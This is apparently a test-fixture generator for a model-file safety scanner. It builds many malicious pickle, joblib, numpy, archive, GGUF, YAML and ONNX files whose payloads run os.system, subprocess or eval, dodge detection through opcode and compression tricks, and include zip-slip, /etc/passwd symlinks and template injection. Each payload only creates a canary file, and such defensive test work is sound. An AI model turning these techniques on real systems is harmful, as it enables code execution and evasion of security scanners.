"""Builds hostile files. Each of them makes one file, its canary, if anything in it is run.

``Payload.denied`` says that the deny list names what it uses, so that no trust at all may open it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np


@dataclass(frozen=True)
class Payload:
    """One file: ``data`` of the given ``suffix``; ``runs`` if plain ``pickle`` or ``joblib`` fires it."""

    name: str
    data: bytes
    canary: Path
    suffix: str = ".pkl"
    runs: bool = True
    denied: bool = True


class Call:
    """Pickles as a call of ``module.name`` with arguments."""

    def __init__(self, module: str, name: str, *args: Any):
        self.target, self.args = (module, name), args


# A small assembler -----------------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def value(thing: Any) -> bytes:
    """Opcodes (protocol 4, no frame) that push ``thing``."""
    if isinstance(thing, Call):
        return name(*thing.target) + value(tuple(thing.args)) + b"R"
    if isinstance(thing, Global):
        return name(thing.module, thing.attribute)
    if isinstance(thing, tuple):
        return b"(" + b"".join(value(item) for item in thing) + b"t"
    if isinstance(thing, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in thing.items()) + b"u"
    if isinstance(thing, str):
        return text(thing)
    body = pickle.dumps(thing, 2)
    return body[2:-1]


@dataclass(frozen=True)
class Global:
    """A reference without a call."""

    module: str
    attribute: str


def program(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(parts) + b"."


def call(module: str, attribute: str, *args: Any) -> bytes:
    return program(value(Call(module, attribute, *args)))


# The corpus ------------------------------------------------------------------------------------------------------


def payloads(folder: Path) -> list[Payload]:
    """Every hostile file, with canaries below ``folder``."""
    made: list[Payload] = []
    for build in (_direct, _doors, _writers, _chains, _opcodes, _packed, _arrays, _gadgets):
        for label, (data, options) in build(folder).items():
            made.append(Payload(name=label, data=data, canary=folder / label, **options))
    return made


Made = dict[str, tuple[bytes, dict[str, Any]]]


def _plain(found: dict[str, bytes], **options: Any) -> Made:
    return {label: (data, options) for label, data in found.items()}


def touch(folder: Path, label: str) -> str:
    return f"touch {folder / label}"


def code(folder: Path, label: str) -> str:
    return f"open({str(folder / label)!r}, 'w').close()"


class _System:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.command,)


def _direct(folder: Path) -> Made:
    found = {f"protocol_{p}": pickle.dumps(_System(touch(folder, f"protocol_{p}")), p) for p in range(6)}
    for label, module, attribute in [
        ("os_system", "os", "system"),
        ("posix_system", "posix", "system"),
        ("os_popen", "os", "popen"),
        ("subprocess_getoutput", "subprocess", "getoutput"),
    ]:
        found[label] = call(module, attribute, touch(folder, label))
    found["subprocess_call"] = call("subprocess", "call", ("touch", str(folder / "subprocess_call")))
    found["subprocess_popen"] = call("subprocess", "Popen", ("touch", str(folder / "subprocess_popen")))
    found["subprocess_check_output"] = call(
        "subprocess", "check_output", ("touch", str(folder / "subprocess_check_output"))
    )
    found["eval"] = call("builtins", "eval", code(folder, "eval"))
    found["exec"] = call("builtins", "exec", code(folder, "exec"))
    old = "python2_eval"
    found[old] = b"c__builtin__\neval\n(V" + code(folder, old).encode() + b"\ntR."
    old = "python2_commands"
    found[old] = b"ccommands\ngetoutput\n(V" + touch(folder, old).encode() + b"\ntR."
    return _plain(found)


def _doors(folder: Path) -> Made:
    one = {
        "runpy": ("runpy", "_run_code", {}),
        "timeit": ("timeit", "timeit", "pass", None, 1),
        "cprofile": ("cProfile", "run", "/dev/null"),
        "profile": ("profile", "run", "/dev/null"),
        "bdb": ("bdb", "Bdb.run"),
        "numpy_runstring": ("numpy.testing._private.utils", "runstring", {}),
        "numpy_f2py": ("numpy.f2py.crackfortran", "myeval"),
        "trace_run": ("trace", "Trace.run"),
    }
    found = {}
    for label, (module, attribute, *rest) in one.items():
        statement = code(folder, label)
        if label in ("bdb", "trace_run"):
            owner = Call(module, attribute.partition(".")[0])
            found[label] = call(module, attribute, owner, statement)
        elif label == "timeit":
            found[label] = call(module, attribute, statement, "pass", Global("time", "time"), 1)
        else:
            found[label] = call(module, attribute, statement, *rest)
    pkgutil = Call("pkgutil", "resolve_name", "os:system")
    found["pkgutil"] = program(value(pkgutil), value((touch(folder, "pkgutil"),)), b"R")
    found["pickle_loads"] = call("pickle", "loads", call("os", "system", touch(folder, "pickle_loads")))
    interpreter = Call("code", "InteractiveInterpreter")
    found["code_runsource"] = call(
        "code", "InteractiveInterpreter.runsource", interpreter, code(folder, "code_runsource")
    )
    return _plain(found)


def _writers(folder: Path) -> Made:
    def at(label: str) -> str:
        return str(folder / label)

    found = {
        "open": call("builtins", "open", at("open"), "w"),
        "io_open": call("io", "open", at("io_open"), "w"),
        "io_fileio": call("_io", "FileIO", at("io_fileio"), "w"),
        "shutil_copy": call("shutil", "copyfile", "/dev/null", at("shutil_copy")),
        "path_write": call("pathlib", "Path.write_text", Call("pathlib", "Path", at("path_write")), "x"),
        "path_touch": call("pathlib", "Path.touch", Call("pathlib", "Path", at("path_touch"))),
        "logging": call("logging", "FileHandler", at("logging")),
        "sqlite": call("sqlite3", "connect", at("sqlite")),
        "zipfile": call("zipfile", "ZipFile", at("zipfile"), "w"),
        "gzip_open": call("gzip", "open", at("gzip_open"), "wb"),
        "numpy_memmap": call("numpy", "memmap", at("numpy_memmap"), "b", "w+", 0, (1,)),
        "numpy_save": call("numpy", "save", at("numpy_save") + ".npy", 1),
        "numpy_savetxt": call("numpy", "savetxt", at("numpy_savetxt"), (1, 2)),
        "joblib_dump": call("joblib", "dump", 1, at("joblib_dump")),
        "os_mkdir": call("os", "mkdir", at("os_mkdir")),
        "multiprocessing": call(
            "multiprocessing.util",
            "spawnv_passfds",
            b"/usr/bin/touch",
            (b"touch", at("multiprocessing").encode()),
            (),
        ),
    }
    made = _plain(found)
    made["numpy_save"] = (found["numpy_save"], {"runs": False})
    return made


def _chains(folder: Path) -> Made:
    def module(wanted: str) -> Call:
        return Call("builtins", "__import__", wanted)

    found = {}
    for label, getter in {
        "getattr_chain": Call("builtins", "getattr", module("os"), "system"),
        "importlib_chain": Call("builtins", "getattr", Call("importlib", "import_module", "os"), "system"),
        "ctypes": Call("builtins", "getattr", Call("ctypes", "CDLL", None), "system"),
    }.items():
        command: Any = touch(folder, label)
        found[label] = program(
            value(getter), value((command.encode() if label == "ctypes" else command,)), b"R"
        )
    attrgetter = Call("operator", "attrgetter", "system")
    system = value(attrgetter) + value((module("os"),)) + b"R"
    found["attrgetter"] = program(system, value((touch(folder, "attrgetter"),)), b"R")
    caller = Call("operator", "methodcaller", "system", touch(folder, "methodcaller"))
    found["methodcaller"] = program(value(caller), value((module("os"),)), b"R")
    partial = Call("functools", "partial", Global("os", "system"), touch(folder, "partial"))
    found["partial"] = program(value(partial), b")R")
    mapped = Call("builtins", "map", Global("os", "system"), (touch(folder, "map_list"),))
    found["map_list"] = program(value(Call("builtins", "list", mapped)))
    found["default_factory"] = program(
        value(
            Call(
                "collections",
                "deque",
                Call("builtins", "map", Global("os", "system"), (touch(folder, "default_factory"),)),
            )
        )
    )
    found["through_allowed_module"] = call(
        "joblib.numpy_pickle", "os.system", touch(folder, "through_allowed_module")
    )
    found["through_sklearn"] = call("sklearn.base", "warnings.sys.modules", 1)
    made = _plain(found)
    made["through_sklearn"] = (found["through_sklearn"], {"runs": False, "denied": False})
    made["through_allowed_module"] = (found["through_allowed_module"], {"denied": False})
    return made


def _opcodes(folder: Path) -> Made:
    def command(label: str) -> bytes:
        return value(touch(folder, label))

    evil = name("os", "system")
    joined = Call("builtins", "str", "system")
    found = {
        "inst": b"(V" + touch(folder, "inst").encode() + b"\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nV" + touch(folder, "obj").encode() + b"\no.",
        "memo": program(text("system"), b"\x94", b"0", text("os"), b"h\x00\x93", command("memo"), b"\x85R"),
        "memo_overwritten": program(
            text("path"), b"q\x05", b"0", text("system"), b"q\x05", b"0", text("os"), b"h\x05\x93",
            command("memo_overwritten"), b"\x85R",
        ),
        "computed_name": program(text("os"), value(joined), b"\x93", command("computed_name"), b"\x85R"),
        "breaks_after": b"\x80\x04" + evil + command("breaks_after") + b"\x85R" + b"\xff\xff garbage",
        "truncated": b"\x80\x04" + evil + command("truncated") + b"\x85R",
        "popped": program(evil, command("popped"), b"\x85R0", value({"innocent": 1})),
        "inside_list": program(b"](", evil, command("inside_list"), b"\x85R", value(1), b"e"),
        "duplicated": program(evil, b"2", command("duplicated"), b"\x85R"),
        "long_binget": program(evil, b"r\x00\x01\x00\x00", b"0j\x00\x01\x00\x00", command("long_binget"), b"\x85R"),
        "newobj_ex": program(
            name("subprocess", "Popen"), b")", value({}), b"\x92", command("newobj_ex"), b"0", b"0",
            evil, command("newobj_ex"), b"\x85R",
        ),
        "framed": framed(evil + command("framed") + b"\x85R."),
        "class_patched": program(
            name("collections", "UserDict"), value((None, {"modelyard_probe": 1})), b"b0",
            evil, command("class_patched"), b"\x85R",
        ),
        "as_gguf": b"GGUF\x03\x00\x00\x00\x00" + evil + command("as_gguf") + b"\x85R.",
        "as_text": b"S'model: fine'\n0cos\nsystem\n(V" + touch(folder, "as_text").encode() + b"\ntR.",
        "as_safetensors": evil_safetensors(folder),
    }  # fmt: skip
    made = _plain(found)
    made["computed_name"] = (found["computed_name"], {"denied": False})
    second = pickle.dumps({"harmless": 1}) + call("os", "system", touch(folder, "second_stream"))
    made["second_stream"] = (second, {"runs": False})
    persistent = program(b"\x80\x04" + evil + command("persistent_id") + b"\x85RQ")
    made["persistent_id"] = (persistent, {})
    made["extension_code"] = (
        program(b"\x82\xf0", command("extension_code"), b"\x85R"),
        {"runs": False, "denied": False},
    )
    return made


def framed(body: bytes) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def evil_safetensors(folder: Path) -> bytes:
    """A pickle under another name: the suffix says safetensors, the content does not."""
    return call("os", "system", touch(folder, "as_safetensors"))


def _packed(folder: Path) -> Made:
    def evil(label: str) -> bytes:
        return call("os", "system", touch(folder, label))

    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress,
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
        "lz4": _lz4,
    }
    made: Made = {
        f"packed_{m}": (pack(evil(f"packed_{m}")), {"suffix": ".joblib"}) for m, pack in packers.items()
    }
    made["gzip_second_member"] = (
        gzip.compress(b"\x80\x04") + gzip.compress(evil("gzip_second_member")[2:]),
        {
            "suffix": ".pkl.gz",
            "runs": False,
        },  # only for who opens it with the module gzip; joblib never ends on it
    )
    quiet = {"runs": False, "suffix": ".bin"}
    made["zip"] = (_zip({"a.json": evil("zip")}), quiet)
    made["zip_deflated"] = (_zip({"weights.bin": evil("zip_deflated")}, zipfile.ZIP_DEFLATED), quiet)
    made["zip_wrong_crc"] = (_zip_patched(evil("zip_wrong_crc"), crc=True), quiet)
    made["zip_encrypted_bit"] = (_zip_patched(evil("zip_encrypted_bit"), flag=True), quiet)
    made["zip_renamed"] = (_zip_patched(evil("zip_renamed"), rename=True), quiet)
    made["zip_in_gzip"] = (gzip.compress(_zip({"x": evil("zip_in_gzip")})), quiet)
    made["gzip_in_zip_in_zip"] = (_zip({"y": _zip({"x": gzip.compress(evil("gzip_in_zip_in_zip"))})}), quiet)
    made["tar"] = (_tar({"data/x": evil("tar")}), quiet)
    made["tar_in_gzip"] = (gzip.compress(_tar({"x": evil("tar_in_gzip")})), quiet)
    made["torch_zip"] = (_zip({"archive/data.pkl": evil("torch_zip"), "archive/version": b"3\n"}), quiet)
    return made


def _lz4(data: bytes) -> bytes:
    file = io.BytesIO()
    with joblib.compressor._COMPRESSORS["lz4"].compressor_file(file) as packed:
        packed.write(data)
    return file.getvalue()


def _zip(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for path, data in files.items():
            archive.writestr(zipfile.ZipInfo(path), data, method)
    return file.getvalue()


def _zip_patched(data: bytes, *, crc: bool = False, flag: bool = False, rename: bool = False) -> bytes:
    raw = bytearray(_zip({"data.pkl2": data}))
    directory = raw.index(b"PK\x01\x02")
    if crc:
        raw[14:18] = raw[directory + 16 : directory + 20] = b"\x01\x02\x03\x04"
    if flag:
        raw[6] |= 1
        raw[directory + 8] |= 1
    if rename:
        raw[30:39] = b"notes.txt"
    return bytes(raw)


def _tar(files: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def _arrays(folder: Path) -> Made:
    def objects(label: str) -> Any:
        return np.array([_System(touch(folder, label)), 1], dtype=object)

    def dumped(thing: Any, **options: Any) -> bytes:
        file = io.BytesIO()
        joblib.dump(thing, file, **options)
        return file.getvalue()

    def saved(thing: Any) -> bytes:
        file = io.BytesIO()
        np.save(file, thing, allow_pickle=True)
        return file.getvalue()

    joblib_file = {"suffix": ".joblib"}
    quiet = {"runs": False, "suffix": ".npy"}
    nested = {"w": np.arange(4.0), "o": objects("joblib_nested_objects")}
    made: Made = {
        "joblib_objects": (dumped(objects("joblib_objects")), joblib_file),
        "joblib_nested_objects": (dumped(nested, compress=3), joblib_file),
        "joblib_after_array": (
            dumped([np.arange(1000.0), _System(touch(folder, "joblib_after_array"))]),
            joblib_file,
        ),
        "npy_objects": (saved(objects("npy_objects")), quiet),
        "npz_objects": (_zip({"a.npy": saved(objects("npz_objects"))}), quiet),
        "array_in_frame": (_array_in_frame(folder), joblib_file | {"runs": False, "denied": False}),
        "wrapper_read": (_wrapper_read(folder), joblib_file | {"runs": False}),
        "old_wrapper": (
            call("joblib.numpy_pickle", "NDArrayWrapper", str(folder / "x.npy"), Global("numpy", "ndarray")),
            joblib_file | {"runs": False},
        ),
    }
    return made


def _array_in_frame(folder: Path) -> bytes:
    """An array whose bytes joblib reads behind the frame, while a simple reader takes opcodes for them."""
    dtype = Call("numpy", "dtype", "u1")
    evil = value(Call("os", "system", touch(folder, "array_in_frame")))
    state = value({"subclass": Global("numpy", "ndarray"), "order": "C", "allow_mmap": False})[:-1]
    state += text("shape") + value((len(evil) + 1,)) + text("dtype") + value(dtype)
    state += text("numpy_array_alignment_bytes") + b"Nu"
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    frame = wrapper + b"0N."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + evil + b"0"


def _wrapper_read(folder: Path) -> bytes:
    """State that replaces the placeholder's own ``read`` method."""
    state = value({"read": Global("os", "system")})
    return program(name("joblib.numpy_pickle", "NumpyArrayWrapper"), b")\x81", state, b"b")


def _gadgets(folder: Path) -> Made:
    """Classes whose own state is a program."""
    template = f"def _parse_args(self): pass\n{code(folder, 'scipy_template')}\n"
    state = {"_parse_arg_template": template, "moment_type": 1, "shapes": None, "name": "x", "numargs": 0}
    rv = program(name("scipy.stats._continuous_distns", "norm_gen"), b")\x81", value(state), b"b")
    made: Made = {"scipy_template": (rv, {"denied": False})}
    quiet = {"runs": False, "suffix": ".bin"}
    layers = {
        "class_name": "Functional",
        "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda"}]},
    }
    keras = {
        "config.json": json.dumps(layers).encode(),
        "metadata.json": b"{}",
        "model.weights.h5": b"\x89HDF\r\n\x1a\n",
    }
    made["keras_lambda"] = (_zip(keras), quiet | {"denied": False})
    made["hdf5_lambda"] = (b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + b'{"class_name": "Lambda"}', quiet)
    made["onnx_external"] = (_onnx("../../../../etc/passwd"), quiet)
    made["gguf_template"] = (_gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"), quiet)
    made["yaml_tag"] = (b"model: !!python/object/apply:os.system ['id']\n", quiet)
    made["mlmodel_loader"] = (
        b"flavors:\n  python_function:\n    code: code\n    loader_module: evil\n",
        quiet | {"denied": False},
    )
    made["zip_slip"] = (_zip({"../../evil.txt": b"text"}), quiet)
    made["zip_absolute"] = (_zip({"/etc/cron.d/x": b"text"}), quiet)
    made["tar_slip"] = (_tar({"../../evil.txt": b"text"}), quiet)
    made["tar_link"] = (_tar_link(), quiet)
    made["zip_link"] = (_zip_link(), quiet)
    return made


def _field(number: int, data: bytes) -> bytes:
    assert len(data) < 128
    return bytes([number << 3 | 2, len(data)]) + data


def _onnx(location: str) -> bytes:
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor = b"\x6a" + bytes([len(entry)]) + entry
    graph = _field(5, tensor)
    return b"\x08\x08" + _field(2, b"tool") + _field(7, graph)


def _gguf(template: str) -> bytes:
    def string(text_: str) -> bytes:
        return struct.pack("<Q", len(text_)) + text_.encode()

    return (
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + string("tokenizer.chat_template")
        + struct.pack("<I", 8)
        + string(template)
    )


def _tar_link() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        info = tarfile.TarInfo("passwd")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    return file.getvalue()


def _zip_link() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("passwd")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return file.getvalue()
